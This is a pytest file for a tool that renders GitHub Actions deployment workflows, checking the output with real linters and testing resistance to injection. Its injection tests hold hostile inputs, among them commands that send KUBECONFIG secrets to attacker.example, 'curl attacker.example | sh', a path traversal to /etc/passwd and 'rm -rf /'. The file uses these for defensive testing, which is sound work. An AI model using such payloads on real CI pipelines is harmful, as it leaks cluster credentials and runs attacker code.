"""The rendered GitHub Actions workflow: it runs (actionlint, shellcheck, zizmor), matches the plan, and no upstream text gets in.

Services of our own making (Python, Go, Node; canary, blue/green, rolling; a very long name) are built as workspaces
from the example and planned by the offline planner, then checked by the real tools and by our own rules.
"""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from agent import facts as facts_
from agent.artifacts import Approve
from agent.documents import parse_yaml
from agent.errors import InputError
from agent.facts import Facts
from agent.inputs import load
from agent.models.offline import planner
from agent.rendering import pins, workflow
from agent.rendering.memo import WORKFLOWS
from agent.validation import check_cicd, check_runbook, errors
from agent.workspace import Workspace
from tests.conftest import EXAMPLE, require

LANGUAGES: dict[str, dict[str, Any]] = {
    "python": {
        "files": ["src/refunds/app.py", "src/refunds/health.py", "tests/test_app.py"],
        "declared": {"language": "python", "language_version": "3.12"},
        "gates": {"test_coverage": 85, "linting": "ruff check", "type_check": "mypy --strict", "security_scan": "bandit -r src"},
    },
    "go": {
        "files": ["go.mod", "cmd/refunds/main.go", "internal/refunds/handler.go", "internal/refunds/handler_test.go"],
        "declared": {},
        "gates": {"test_coverage": 80, "linting": "gofmt and go vet"},
    },
    "node": {
        "files": ["package.json", "src/index.ts", "src/routes.ts", "test/routes.test.ts"],
        "declared": {"runtime": "node 20"},
        "gates": {"linting": "eslint", "type_check": "tsc --noEmit", "security_scan": "npm audit"},
    },
}
RISK = {"canary": "high", "blue_green": "medium", "rolling": "low"}
LONG_NAME = "Customer Refund Reconciliation And Ledger Synchronisation Service For The Payments Platform (EU)"


def make_service(
    root: Path, language: str, strategy: str, name: str | None = "refunds", layout: str = "classic", **extra: Any
) -> Workspace:
    """A workspace from the example with the service, files, gates and risk changed."""
    consensus = root / "consensus" if layout == "classic" else root / "docs" / "specs" / "epic_01" / "consensus"
    shutil.copytree(EXAMPLE / "consensus", consensus)
    if layout != "classic":
        (consensus / "current" / "decision_log.jsonl").rename(consensus / "decision_log.jsonl")
        shutil.rmtree(consensus / "current")
    spec = LANGUAGES[language]
    impl = json.loads((consensus / "artifacts" / "implementation.json").read_text())
    impl["tasks_completed"][0]["files_created"] = spec["files"]
    impl["tasks_completed"][1]["files_created"] = []
    impl["tasks_completed"][1]["files_modified"] = []
    impl["service"] = {"port": 8081, "endpoints": ["GET /livez", "GET /readyz", "GET /deliveries/{id}", "POST /refunds"]}
    if name is not None:
        impl["service"]["name"] = name
    impl |= spec["declared"] | extra
    plan = json.loads((consensus / "artifacts" / "plan.json").read_text())
    plan["stages"][0]["ci_gates"] = spec["gates"]
    plan["risks"] = [{"risk": "refunds paid twice", "likelihood": "medium", "impact": RISK[strategy], "mitigation": "idempotency keys"}]
    (consensus / "artifacts" / "implementation.json").write_text(json.dumps(impl))
    (consensus / "artifacts" / "plan.json").write_text(json.dumps(plan))
    return Workspace.locate(consensus)


def approve(workspace: Workspace) -> tuple[Approve, Facts]:
    inputs = load(workspace)
    facts = planner.gather(inputs)
    decision = planner.plan(inputs)
    assert isinstance(facts, Facts) and isinstance(decision, Approve), decision
    return decision, facts


def actionlint(text: str, tmp_path: Path) -> list[str]:
    require("shellcheck")
    path = tmp_path / "workflow.yml"
    path.write_text(text)
    result = subprocess.run([require("actionlint"), "-oneline", str(path)], capture_output=True, text=True, check=False)
    assert result.returncode in (0, 1), result.stderr
    return result.stdout.splitlines()


def zizmor(text: str, tmp_path: Path) -> list[str]:
    path = tmp_path / "workflow.yml"
    path.write_text(text)
    # The pedantic persona, every severity: stricter than what `validate` reports (medium and up, default persona).
    args = [require("zizmor"), "--offline", "--no-config", "--persona", "pedantic", "--format", "json", str(path)]
    env = {k: v for k, v in os.environ.items() if "TOKEN" not in k}
    result = subprocess.run(args, capture_output=True, text=True, check=False, env=env)
    assert result.returncode in (0, 11, 12, 13, 14), result.stderr
    return [f"{f['ident']} ({f['determinations']['severity']})" for f in json.loads(result.stdout)]


CASES = [(lang, strategy) for lang in LANGUAGES for strategy in RISK]


@pytest.mark.parametrize(("language", "strategy"), CASES, ids=[f"{a}-{b}" for a, b in CASES])
def test_rendered_workflow_passes_the_real_linters(tmp_path: Path, language: str, strategy: str) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", language, strategy))
    assert decision.deployment["deployment_strategy"]["type"] == strategy
    assert actionlint(decision.cicd, tmp_path) == []
    assert zizmor(decision.cicd, tmp_path) == []


@pytest.mark.parametrize("layout", ["classic", "per_epic"])
def test_example_and_long_name_pass_the_real_linters(tmp_path: Path, layout: str) -> None:
    example, _ = approve(Workspace.locate(EXAMPLE))
    long, facts = approve(make_service(tmp_path / "repo", "go", "canary", name=LONG_NAME, layout=layout))
    assert len(facts.app) <= 63 and not facts.app.endswith("-") and facts.app.startswith("customer-refund")
    for text in (example.cicd, long.cicd):
        assert actionlint(text, tmp_path) == []
        assert zizmor(text, tmp_path) == []


@pytest.mark.parametrize(("language", "strategy"), CASES, ids=[f"{a}-{b}" for a, b in CASES])
def test_rendered_workflow_realises_its_plan(tmp_path: Path, language: str, strategy: str) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", language, strategy))
    found = check_cicd(decision.cicd, decision.deployment, artifacts_dir=facts.artifacts_dir, external=False)
    assert [str(v) for v in found] == []
    assert errors(check_runbook(decision.runbook, decision.deployment)) == []
    # The same text not as rendered (one more line end) is parsed, not taken from the renderer: the same verdict.
    found = check_cicd(decision.cicd + "\n", decision.deployment, artifacts_dir=facts.artifacts_dir, external=False)
    assert [str(v) for v in found] == []


@pytest.mark.parametrize(("language", "strategy"), CASES, ids=[f"{a}-{b}" for a, b in CASES])
def test_a_rendered_workflow_reads_back_as_its_document_and_the_checks_leave_that_document_alone(
    tmp_path: Path, language: str, strategy: str
) -> None:
    """What lets `validation.cicd` take a workflow it is given back as the rendered document, without parsing it."""
    decision, facts = approve(make_service(tmp_path / "repo", language, strategy))
    remembered = WORKFLOWS.of(decision.cicd)
    assert remembered is not None and len(remembered) == 1
    document = copy.deepcopy(remembered[0])
    assert parse_yaml(decision.cicd, Path("cicd.yaml"), yaml12_bools=True) == document
    # The version comments are comments: the text reads the same without them.
    bare = re.sub(r" # v[0-9.]+$", "", decision.cicd, flags=re.M)
    assert bare != decision.cicd and parse_yaml(bare, Path("cicd.yaml"), yaml12_bools=True) == document
    check_cicd(decision.cicd, decision.deployment, artifacts_dir=facts.artifacts_dir, external=False)
    assert remembered[0] == document


def test_a_table_row_whose_version_is_not_a_plain_release_tag_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    table = json.loads(pins.TABLE.read_text())
    good = table["actions"]["actions/checkout"][0]
    forged = {"version": "v9.0.0\npermissions: write-all", "sha": "f" * 40}
    table["actions"]["actions/checkout"] = [forged, good]
    path = tmp_path / "action_pins.json"
    path.write_text(json.dumps(table))
    monkeypatch.setattr(pins, "TABLE", path)
    pins.table.cache_clear()
    try:
        assert pins.latest("actions/checkout").sha == good["sha"]
        assert pins.known("actions/checkout", "f" * 40) is None
    finally:
        pins.table.cache_clear()


def jobs_of(text: str) -> dict[str, Any]:
    doc = parse_yaml(text, Path("cicd.yaml"), yaml12_bools=True)
    assert isinstance(doc, dict)
    return dict(doc["jobs"])


def runs(job: dict[str, Any]) -> str:
    return "\n".join(str(s.get("run", "")) for s in job["steps"])


def test_python_service_gets_its_declared_version_and_the_plans_gates(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
    test = jobs_of(decision.cicd)["test"]
    setup = next(s for s in test["steps"] if "setup-python" in s.get("uses", ""))
    assert setup["with"] == {"python-version": "3.12"}
    assert facts.language == "python" and facts.source_dir == "src"
    script = runs(test)
    assert "python -m pytest --cov=src --cov-report=xml --cov-fail-under=85" in script
    assert "python -m ruff check src" in script and "python -m mypy --strict src" in script and "python -m bandit -r src" in script


def test_go_service_reads_its_version_from_go_mod_and_checks_coverage(tmp_path: Path) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", "go", "canary"))
    test = jobs_of(decision.cicd)["test"]
    setup = next(s for s in test["steps"] if "setup-go" in s.get("uses", ""))
    assert setup["with"] == {"go-version-file": "go.mod", "cache": False}
    script = runs(test)
    assert "go vet ./..." in script and "go test -race -coverprofile=coverage.out ./..." in script
    assert "awk -v min=80" in script and "gofmt -l ." in script
    assert "make test" not in script


def test_node_service_gets_setup_node_npm_ci_and_its_gates(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "node", "blue_green"))
    test = jobs_of(decision.cicd)["test"]
    setup = next(s for s in test["steps"] if "setup-node" in s.get("uses", ""))
    assert setup["with"] == {"node-version": "20"}
    by_name = {s.get("name"): s.get("run") for s in test["steps"]}
    assert by_name["Install"] == "npm ci\n"
    assert by_name["Run the CI gates"] == "npm test\nnpm run lint\nnpx --no-install tsc --noEmit\nnpm audit --audit-level=high\n"
    assert not [a for a in facts.assumptions if a.startswith("CI gate")]


def test_build_pushes_to_ghcr_and_every_deploy_applies_that_digest(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "python", "canary", layout="per_epic"))
    found = jobs_of(decision.cicd)
    build = found["build"]
    assert build["permissions"] == {"contents": "read", "packages": "write"}
    assert build["outputs"]["image"] == "${{ steps.image.outputs.name }}@${{ steps.build.outputs.digest }}"
    uses = [s.get("uses", "").split("@")[0] for s in build["steps"]]
    assert uses[-3:] == ["docker/setup-buildx-action", "docker/login-action", "docker/build-push-action"]
    login = build["steps"][-2]["with"]
    assert login["registry"] == "ghcr.io" and login["password"] == "${{ secrets.GITHUB_TOKEN }}"
    assert [n for n, j in found.items() if "permissions" in j] == ["build"]
    for env in ("dev", "staging", "production"):
        job = found[f"deploy-{env}"]
        assert job["environment"] == env and "build" in job["needs"]
        assert job["env"]["IMAGE"] == "${{ needs.build.outputs.image }}"
        assert job["env"]["MANIFESTS"] == f"docs/specs/epic_01/consensus/artifacts/k8s/{env}"
        assert facts.artifacts_dir == "docs/specs/epic_01/consensus/artifacts"
        assert job["env"]["IMAGE_NAME"] == job["env"]["APP"] == "refunds"
        assert 'kustomize edit set image "$IMAGE_NAME=$IMAGE"' in runs(job) and 'kubectl apply -k "$MANIFESTS"' in runs(job)


def test_waits_and_timeouts_cover_the_canary_and_the_soak(tmp_path: Path) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", "go", "canary"))
    production = next(s for s in decision.deployment["deployment_strategy"]["stages"] if s["stage"] == "production")
    canary_minutes = production["canary_duration_hours"] * 60
    found = jobs_of(decision.cicd)
    job = found["deploy-production"]
    assert int(job["env"]["WAIT_SECONDS"]) >= canary_minutes * 60
    assert job["timeout-minutes"] >= canary_minutes + 10
    assert '.status.phase' in runs(job) and "rollout status" not in runs(job)
    soak = found["soak-staging"]
    assert soak["needs"] == "deploy-staging" and found["deploy-production"]["needs"] == ["build", "soak-staging"]
    assert int(soak["env"]["SOAK_SECONDS"]) == 2 * 3600 and soak["timeout-minutes"] > 120


def test_rolling_waits_for_the_deployment_and_a_long_soak_is_split_into_jobs(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
    deployment = json.loads(json.dumps(decision.deployment))
    deployment["deployment_strategy"]["stages"][1]["soak_time_hours"] = 11
    found = jobs_of(workflow.render(facts, deployment))
    assert 'rollout status "deployment/$APP"' in runs(found["deploy-staging"])
    soaks = [n for n in found if n.startswith("soak-staging")]
    assert soaks == ["soak-staging", "soak-staging-2", "soak-staging-3"]
    assert sum(int(found[n]["env"]["SOAK_SECONDS"]) for n in soaks) == 11 * 3600
    assert all(found[n]["timeout-minutes"] <= 360 for n in found)


@pytest.mark.parametrize("strategy", ["canary", "blue_green", "rolling"])
def test_rollback_runs_when_this_deploy_or_its_tests_failed_and_never_on_a_first_deploy(tmp_path: Path, strategy: str) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", "python", strategy))
    for env in ("dev", "staging", "production"):
        steps = jobs_of(decision.cicd)[f"deploy-{env}"]["steps"]
        step = next(s for s in steps if s.get("name", "").startswith("Roll back"))
        assert step["if"].startswith("failure() && (steps.deploy.outcome == 'failure'")
        # Every test after the deploy (smoke, integration, latency) rolls back too; a step before it (cluster access) never does.
        deploy = next(i for i, s in enumerate(steps) if s.get("id") == "deploy")
        tests = [s["id"] for s in steps[deploy + 1 : steps.index(step)] if "id" in s]
        assert "smoke" in tests and all(f"steps.{t}.outcome == 'failure'" in step["if"] for t in tests)
        assert "steps.before.outcome" not in step["if"]
        if strategy == "rolling":
            assert "steps.before.outputs.revision != ''" in step["if"] and '--to-revision="$REVISION"' in step["run"]
            continue
        assert "steps.before.outputs.stable != ''" in step["if"] and "rollout undo" not in step["run"]
        # In progress: abort; finished, then a test failed: put the recorded version back, and promote a blue/green preview.
        assert '"abort":true' in step["run"] and "/spec/template" in step["run"] and "promoteFull" in step["run"]
        assert int(step["env"]["WAIT_SECONDS"]) <= 600


def test_blue_green_production_smoke_tests_the_preview_then_promotes(tmp_path: Path) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", "node", "blue_green"))
    steps = jobs_of(decision.cicd)["deploy-production"]["steps"]
    names = [s.get("name", "") for s in steps]
    promote = next(n for n in names if "Promote" in n)
    assert names.index("Deploy to production") < names.index("Smoke test the preview") < names.index(promote)
    assert 'until_phase="Paused"' in steps[names.index("Deploy to production")]["run"]
    assert "pauseConditions" in next(s for s in steps if "Promote" in s.get("name", ""))["run"]


def test_kubeconfig_lives_in_runner_temp_and_runner_is_used_only_in_step_env(tmp_path: Path) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", "python", "canary"))
    doc = parse_yaml(decision.cicd, Path("cicd.yaml"), yaml12_bools=True)
    assert "runner." not in json.dumps(doc.get("env", {}))
    for job in doc["jobs"].values():
        assert "runner." not in json.dumps(job.get("env", {}))
        for step in job["steps"]:
            if "kubectl" in step.get("run", "") or "KUBECONFIG" in step.get("run", ""):
                assert step["env"]["KUBECONFIG"] == "${{ runner.temp }}/kubeconfig"


def test_every_action_is_pinned_to_a_table_sha_with_its_version_and_checkouts_keep_no_token(tmp_path: Path) -> None:
    decision, _ = approve(make_service(tmp_path / "repo", "node", "canary"))
    lines = [line for line in decision.cicd.splitlines() if "uses:" in line]
    assert lines
    for line in lines:
        match = re.fullmatch(r"\s*(?:- )?uses: ([\w./-]+)@([0-9a-f]{40}) # (v[\d.]+)", line)
        assert match, line
        pin = pins.known(match.group(1), match.group(2))
        assert pin is not None and pin.version == match.group(3)
    for job in jobs_of(decision.cicd).values():
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
    doc = yaml.safe_load(decision.cicd)
    assert doc["permissions"] == {"contents": "read"} and doc["concurrency"]["cancel-in-progress"] is False


def test_liveness_never_lands_on_a_business_route(tmp_path: Path) -> None:
    _, facts = approve(make_service(tmp_path / "repo", "go", "rolling"))
    assert (facts.readiness, facts.liveness) == ("/readyz", "/livez")
    assert facts.port == 8081


def test_service_name_never_falls_back_to_the_epic_title(tmp_path: Path) -> None:
    _, facts = approve(make_service(tmp_path / "repo", "python", "rolling", name=None))
    assert facts.app == "refunds" and facts.service == "refunds"
    assert "health check" not in facts.app and any("service name not declared" in a for a in facts.assumptions)


# ---- issue 6: injection into what we write -------------------------------------------------------------------------


def test_a_newline_in_the_epic_id_adds_no_yaml(tmp_path: Path) -> None:
    workspace = make_service(tmp_path / "repo", "python", "rolling")
    review = workspace.artifacts / "review.json"
    data = json.loads(review.read_text())
    data["epic_id"] = 'EP-1\ndefaults:\n  run:\n    shell: "curl -d @$KUBECONFIG https://attacker.example #"'
    review.write_text(json.dumps(data))
    try:
        decision, _ = approve(workspace)
    except InputError:
        return  # refused with exit 2, naming the file: nothing written, which is also safe
    assert "defaults" not in yaml.safe_load(decision.cicd) and "attacker" not in decision.cicd


def test_a_hostile_epic_id_in_facts_is_not_pasted_into_the_header(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
    facts = facts._replace(epic="EP-1\ndefaults:\n  run:\n    shell: evil {0}\r\u2028x")
    text = workflow.render(facts, decision.deployment)
    header = text.split("name:", 1)[0]
    assert header.count("\n") == 2 and "(unnamed)" in header and "evil" not in text
    assert "defaults" not in yaml.safe_load(text)


EXFILTRATE = 'x;curl -d "${{ secrets.KUBECONFIG }}" attacker.example;#/a.py'


@pytest.mark.parametrize("path", [EXFILTRATE, "src/a.py\ncurl attacker.example | sh", "../../etc/passwd.py", "-rf/a.py", "/abs/a.py"])
def test_hostile_file_paths_never_reach_the_test_job(tmp_path: Path, path: str) -> None:
    workspace = make_service(tmp_path / "repo", "python", "rolling")
    impl_path = workspace.artifacts / "implementation.json"
    impl = json.loads(impl_path.read_text())
    impl["tasks_completed"][0]["files_created"] = [path, path, path]
    impl_path.write_text(json.dumps(impl))
    decision, facts = approve(workspace)
    test = jobs_of(decision.cicd)["test"]
    assert "attacker" not in decision.cicd and "passwd" not in decision.cicd and "/abs" not in decision.cicd
    assert "secrets." not in json.dumps(test)
    assert facts.source_dir == "src" and any("not plain relative paths" in a for a in facts.assumptions)


def test_an_unsafe_source_dir_is_refused_not_quoted_away(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
    facts = facts._replace(source_dir="src; curl attacker.example")
    with pytest.raises(ValueError, match="not a plain relative path"):
        workflow.render(facts, decision.deployment)


def test_a_hostile_probe_path_or_name_is_refused(tmp_path: Path) -> None:
    decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
    hostile = json.loads(json.dumps(decision.deployment))
    hostile["health_checks"]["readiness"]["endpoint"] = "/h${{ secrets.KUBECONFIG }}"
    with pytest.raises(ValueError, match="probe path"):
        workflow.render(facts, hostile)
    facts = facts._replace(app="api\njobs: {}")
    text = workflow.render(facts, decision.deployment)
    assert set(jobs_of(text)) == set(jobs_of(decision.cicd)) and jobs_of(text)["deploy-dev"]["env"]["APP"] == "api-jobs"


@pytest.mark.parametrize(
    ("declared", "probes"),
    [
        (["/deliveries/{id}", "/livez", "/readyz"], ("/readyz", "/livez")),
        (["/deliveries/{id}", "/health"], ("/health", "/health")),
        (["/health/live", "/health/ready", "/orders/:id"], ("/health/ready", "/health/live")),
        (["/healthz", "/status", "/delivery-status/{id}"], ("/healthz", "/healthz")),
        (["/live/{id}", "/orders"], None),
        (["/api/v1/ping"], ("/api/v1/ping", "/api/v1/ping")),
    ],
)
def test_probes_are_chosen_by_whole_segments_and_never_templated(declared: list[str], probes: tuple[str, str] | None) -> None:
    assert facts_.choose_probes(declared) == probes


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Python 3.12", ("python", "3.12")),
        ("python3.11", ("python", "3.11")),
        ("golang 1.22.3", ("go", "1.22.3")),
        ("node>=20", ("node", "20")),
        ("TypeScript", ("node", None)),
        ("django on google cloud", ("unknown", None)),
        ("python 3.12; rm -rf /", ("python", "3.12")),
    ],
)
def test_declared_languages_are_read_to_a_name_and_a_plain_version(text: str, expected: tuple[str, str | None]) -> None:
    assert facts_._parse_language(text) == expected
